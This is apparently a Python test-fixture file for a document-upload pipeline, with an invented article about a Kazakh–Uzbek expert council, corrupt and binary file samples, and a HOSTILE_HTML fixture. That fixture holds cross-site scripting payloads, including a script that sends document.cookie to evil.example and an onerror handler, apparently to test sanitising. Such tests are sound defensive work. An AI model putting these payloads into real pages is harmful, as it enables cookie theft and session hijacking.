"""Documents written for the ways-in tests (none is copied from a real source), and small file builders."""

from __future__ import annotations

import io
from pathlib import Path

ARTICLE = """Expert council agrees a joint plan for water and trade

TASHKENT, 14 March 2025. The Kazakhstan–Uzbekistan Expert Council met on Friday at the Institute for Strategic and
Interregional Studies to review the first year of the Strategic Partnership and Alliance Programme. Thirty-two
experts from both countries took part, together with officials of the two ministries of foreign affairs.

Opening the session, the director of the Kazakhstan Institute for Strategic Studies said that mutual trade had
grown by eleven per cent over the year and that the two governments kept to the goal of ten billion dollars in
annual trade by 2030. He noted that the new border crossing at Zhibek Zholy had cut waiting times for lorries
from two days to a few hours, and that the customs services of both sides had agreed to exchange data on goods in
transit electronically from the autumn.

The council heard three reports. The first dealt with the shared use of water in the Syr Darya basin. Its authors
proposed a joint monitoring network of forty gauging stations, a common data portal open to researchers, and a
yearly review of the reservoirs' operating rules before the irrigation season. The second report assessed the
progress of the International Centre for Industrial Cooperation, where eleven joint ventures are now registered
and twenty more are in preparation, among them a textile cluster and a plant for agricultural machinery. The third
looked at education: the two sides will open branches of each other's leading universities and double the number
of exchange scholarships within three years.

Members discussed the risks to these plans. Several experts warned that the water proposals would need financing
beyond the national budgets and suggested inviting development banks to the next meeting. Others asked for a
clearer division of tasks between ministries, with one responsible body on each side for every measure and a
deadline that can be checked.

In its decision, the council recommended that the governments adopt the monitoring network as a priority measure,
asked the secretariats to prepare a register of all measures proposed at summits and ministerial meetings since
2022, and agreed to report on their implementation at every session. The register will show for each measure the
document where it was first proposed, the bodies responsible and the current state of work.

The next meeting of the council will take place in Astana in September 2025. It will be devoted to transport
corridors, energy and the joint investment fund, whose first call for projects is expected before the end of
the year. The secretariats will publish the minutes of the session and the list of participants on the council's
portal within two weeks.
"""

# The same article with its last third cut off, as news sites re-publish it.
TRUNCATED = ARTICLE[: int(len(ARTICLE) * 0.62)].rsplit(" ", 1)[0] + " …"

RUSSIAN = """Экспертный совет обсудил водное сотрудничество

Алматы, 3 апреля 2025 года. Члены Казахстанско-узбекского экспертного совета обсудили совместное использование
водных ресурсов бассейна Сырдарьи и предложили создать общую сеть мониторинга.
"""

HOSTILE_HTML = b"""<!doctype html><html><head><title>Council news</title>
<script>alert('head')</script></head><body>
<article><h1>Council news</h1>
<p>The council met in Astana.<script>document.location='https://evil.example/?c='+document.cookie</script></p>
<p>Members agreed a plan.<img src=x onerror="alert(1)"></p>
<iframe src="https://evil.example/frame"></iframe>
<p>Written &lt;b&gt;as text&lt;/b&gt; and <b>bold</b>.</p>
</article></body></html>"""


def docx_bytes(text: str) -> bytes:
    import docx

    document = docx.Document()
    for paragraph in text.split("\n\n"):
        document.add_paragraph(paragraph)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


CORRUPT_PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\nthis is not a pdf at all\n%%EOF\n"
CORRUPT_DOCX = b"PK\x03\x04" + b"word/document.xml" + b"\x00\x13\x37broken zip" * 20
BINARY = bytes(range(256)) * 8
LATIN1 = "Réunion du conseil à Genève: coopération régionale et économie.".encode("latin-1")


def big_file(megabytes: float) -> bytes:
    line = b"The council met again to discuss water, trade and transport corridors.\n"
    return line * (int(megabytes * 1024 * 1024) // len(line) + 1)


# name → bytes: every file the bad-input tests send through each way in, each refused.
REFUSED = {
    "broken.pdf": CORRUPT_PDF,
    "broken.docx": CORRUPT_DOCX,
    "program.bin": BINARY,
    "latin1.txt": LATIN1,
    "empty.txt": b"",
    "blank.txt": b"  \n\n\t ",
}


def media_files(media_root) -> list[Path]:
    root = Path(media_root)
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []
